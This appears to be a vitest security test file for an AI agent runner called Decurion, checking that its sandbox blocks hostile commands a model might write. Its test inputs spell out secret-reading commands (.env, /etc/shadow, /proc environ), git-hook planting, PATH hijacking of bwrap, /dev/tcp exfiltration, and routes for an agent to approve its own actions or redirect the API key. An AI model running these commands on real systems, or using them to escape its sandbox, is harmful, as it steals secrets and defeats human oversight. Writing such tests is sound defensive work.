import { spawnSync } from "node:child_process";
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect } from "vitest";
import { UNCONFINED } from "../../src/processes/confinement.ts";
import { findSandbox } from "../../src/processes/find-sandbox.ts";
import { ProcessScope } from "../../src/processes/process-scope.ts";
import { startProcess } from "../../src/processes/start-process.ts";
import { testDatabaseUrl } from "../support/database.ts";
import { PACKAGE_FOLDER, useEngine } from "../support/engine.ts";
import { outputOf } from "../support/processes.ts";
import { attack } from "./support/attack.ts";

// Commands that a model writes, all of them approved without a look, in a person's own project.

const PROJECT = realpathSync(mkdtempSync(join(tmpdir(), "decurion-attacked-")));
const CANARY = join(homedir(), `.decurion-canary-${process.pid}`);
const LAUNCH = `"${process.execPath}" "${join(PACKAGE_FOLDER, "src/cli/launch.mjs")}"`;
let listener: Server;
let heard = 0;

const testEngine = useEngine({
  environment: { SANDBOX: "required", HOME: homedir(), DECURION_HOME: join(PROJECT, ".decurion") },
});

beforeAll(async () => {
  mkdirSync(join(PROJECT, ".decurion"), { recursive: true });
  mkdirSync(join(PROJECT, ".git", "hooks"), { recursive: true });
  writeFileSync(join(PROJECT, ".decurion", "secret"), "the-secret-canary");
  writeFileSync(join(PROJECT, ".env"), "KEY=the-secret-canary");
  writeFileSync(CANARY, "the-secret-canary");
  listener = createServer((_, response) => {
    heard += 1;
    response.end("x");
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => listener.once("listening", resolve));
});
afterAll(() => {
  listener.close();
  for (const path of [PROJECT, CANARY]) rmSync(path, { recursive: true, force: true });
});

/** What a command prints, in the room that the engine gives to commands of this project. */
async function command(text: string, network: "none" | "shared" = "none") {
  const { confinementOf } = await import("../../src/runs/confinement.ts");
  const { config, folders } = testEngine().engine;
  const confinement = await confinementOf({ config, folders }, { workspace: PROJECT, network });
  const memory = new ProcessScope("thread/task", 500, { confinement });
  const { signal } = new AbortController();
  try {
    const child = startProcess("bash", ["-c", text], { memory, signal, folder: PROJECT });
    child.stdin.end();
    const { stdout, stderr } = await outputOf(child);
    return `${stdout}${stderr}`;
  } finally {
    await memory.close();
  }
}

attack(
  {
    name: "read secrets",
    tries: "to print .env, .decurion, a file at home and the engine's environment",
    stops: "the sandbox shows none of them",
  },
  async () => {
    const said = await command("cat .env .decurion/* ~/.decurion-canary-* /proc/*/environ /etc/shadow");
    expect(said).not.toContain("the-secret-canary");
    const found = await command(
      "find / -name '.decurion-canary-*' -o -name secret -path '*.decurion*' 2>/dev/null",
    );
    expect(found).toBe("");
    expect(said).not.toContain("root:");
    expect(said).not.toContain(testDatabaseUrl());
  },
);

attack(
  {
    name: "plant a git hook",
    tries: "to write .git/hooks, .git/config and .git/commondir, also by renaming the folder around them",
    stops: "what runs later is read-only in the sandbox, and cannot be renamed",
  },
  async () => {
    await command(
      "echo evil > .git/hooks/pre-commit; mv .git/hooks .git/old; rm -rf .git/hooks; ln -sf /tmp .git/hooks",
    );
    await command(
      "mv .git g2; mkdir .git; cp -r g2/. .git/; echo evil > .git/config; echo ../evil > .git/commondir",
    );
    expect(readdirSync(join(PROJECT, ".git"))).toEqual(["hooks"]);
    expect(readdirSync(join(PROJECT, ".git/hooks"))).toEqual([]);
  },
);

attack(
  {
    name: "show the host by a link",
    tries: "to make a kept or hidden name a link to the root, for the next command",
    stops: "nothing is mounted through a link",
  },
  async () => {
    await command("ln -s / .vscode; ln -s / graphs; ln -s ../../.. .idea");
    const said = await command(
      `cat .vscode/etc/shadow graphs/etc/shadow .idea/etc/shadow graphs${CANARY}; ls graphs/run graphs/proc | wc -l`,
    );
    for (const name of [".vscode", "graphs", ".idea"]) rmSync(join(PROJECT, name), { force: true });
    expect(said).not.toMatch(/root:|the-secret-canary/);
  },
);

attack(
  {
    name: "move a hidden folder to where it is seen",
    tries: "to rename the folder around .env and .decurion of a project below the workspace",
    stops: "the folders on the way are mounts, which cannot be renamed",
  },
  async () => {
    const { confinementOf } = await import("../../src/runs/confinement.ts");
    const { config, folders } = testEngine().engine;
    const app = join(PROJECT, "app");
    mkdirSync(join(app, ".decurion"), { recursive: true });
    writeFileSync(join(app, ".env"), "KEY=the-secret-canary");
    const parts = {
      config: { ...config, home: join(app, ".decurion") },
      folders: { ...folders, project: app },
    };
    const confinement = await confinementOf(parts, { workspace: PROJECT });
    const memory = new ProcessScope("thread/task", 500, { confinement });
    const { signal } = new AbortController();
    const child = startProcess("bash", ["-c", "mv app b; cat app/.env b/.env"], {
      memory,
      signal,
      folder: PROJECT,
    });
    const { stdout, stderr } = await outputOf(child);
    await memory.close();
    expect(stdout).not.toContain("the-secret-canary");
    expect(stderr).toContain("busy");
  },
);

attack(
  {
    name: "become the sandbox",
    tries: "to put a program of the same name first in PATH",
    stops: "only a program of the system's is taken, by its absolute path",
  },
  async () => {
    const bin = join(PROJECT, "node_modules", ".bin");
    mkdirSync(bin, { recursive: true });
    writeFileSync(join(bin, "bwrap"), "#!/bin/sh\ncat ~/.decurion-canary-*\n", { mode: 0o755 });
    writeFileSync(join(bin, "sh"), "#!/bin/bash\ncat ~/.decurion-canary-*\n", { mode: 0o755 });
    const environment = { PATH: `${bin}:${process.env["PATH"]}`, HOME: homedir() };
    const found = await findSandbox(environment);
    if ("problem" in found) throw new Error(found.problem);
    const confinement = { ...UNCONFINED, sandbox: found.sandbox, environment };
    const memory = new ProcessScope("thread/task", 500, { confinement });
    const { signal } = new AbortController();
    const { stdout } = await outputOf(
      startProcess("bash", ["-c", "echo inside"], { memory, signal, folder: PROJECT }),
    );
    await memory.close();
    expect(stdout).toBe("inside\n");
  },
);

attack(
  {
    name: "change the kernel's settings",
    tries: "to open files of /proc/sys for writing, where the engine runs as root",
    stops: "they are read-only",
  },
  async () => {
    const said = await command(
      "for f in kernel/core_pattern vm/stat_interval; do (: >> /proc/sys/$f) && echo open; done; true",
    );
    expect(said).not.toContain("open\n");
  },
);

attack(
  {
    name: "send files out",
    tries: "to reach a server of this machine, and a name of the internet",
    stops: "commands have no network unless --network shared",
  },
  async () => {
    const { port } = listener.address() as AddressInfo;
    const fetch = `node -e 'fetch("http://127.0.0.1:${port}/?" + "x").then(() => console.log("out"), () => console.log("kept"))'`;
    expect(await command(`${fetch}; exec 3<>/dev/tcp/127.0.0.1/${port}`)).toContain("kept");
    expect(heard).toBe(0);
    expect(await command(fetch, "shared")).toBe("out\n");
  },
);

attack(
  {
    name: "answer for the human, in the sandbox",
    tries: "to run the command line of Decurion",
    stops: "the program is out of sight",
  },
  async () => {
    expect(await command(`${LAUNCH} list; ${LAUNCH} answer x approve`, "shared")).toMatch(
      /Cannot find module/,
    );
  },
);

attack(
  {
    name: "answer for the human, without a sandbox",
    tries: "to run the command line with an empty environment, from an orphan in a session of its own",
    stops: "the command line knows its ancestors",
  },
  async () => {
    const memory = new ProcessScope("thread/task", 3000);
    const { signal } = new AbortController();
    const out = join(PROJECT, "said");
    // Not longer than the watch needs to see the orphan and end it: either is the end of the attack.
    const orphan = `env -i DATABASE_URL='${testDatabaseUrl()}' setsid ${LAUNCH} list > ${out} 2>&1`;
    const direct = `env -i DATABASE_URL='${testDatabaseUrl()}' ${LAUNCH} list 2>&1`;
    const child = startProcess("bash", ["-c", `(${orphan} &); ${direct}; sleep 2`], {
      memory,
      signal,
      folder: PROJECT,
    });
    child.stdin.end();
    const { stdout, stderr, code } = await outputOf(child);
    await memory.close();
    expect(`${code} ${stdout}${stderr}`).toMatch(/agents never start agents/);
    expect(readFileSync(out, "utf8")).toMatch(/^$|agents never start agents/);
  },
);

attack(
  {
    name: "send the key elsewhere",
    tries: "to set ANTHROPIC_BASE_URL in the .env of a cloned project",
    stops: "the address and the key must come from one place",
  },
  async () => {
    const cloned = mkdtempSync(join(tmpdir(), "decurion-cloned-"));
    writeFileSync(join(cloned, ".env"), "ANTHROPIC_BASE_URL=http://127.0.0.1:9\n");
    writeFileSync(join(cloned, "package.json"), "{}");
    const launch = join(PACKAGE_FOLDER, "src/cli/launch.mjs");
    const options = {
      cwd: cloned,
      env: { PATH: process.env["PATH"], HOME: cloned, ANTHROPIC_API_KEY: "the-key" },
    };
    const { status, stderr } = spawnSync(process.execPath, [launch, "run", "orchestrate", "x"], options);
    rmSync(cloned, { recursive: true });
    expect(`${status} ${stderr}`.replaceAll(/\s+/g, " ")).toMatch(/^2 decurion: .*Set both in one place\. $/);
  },
);
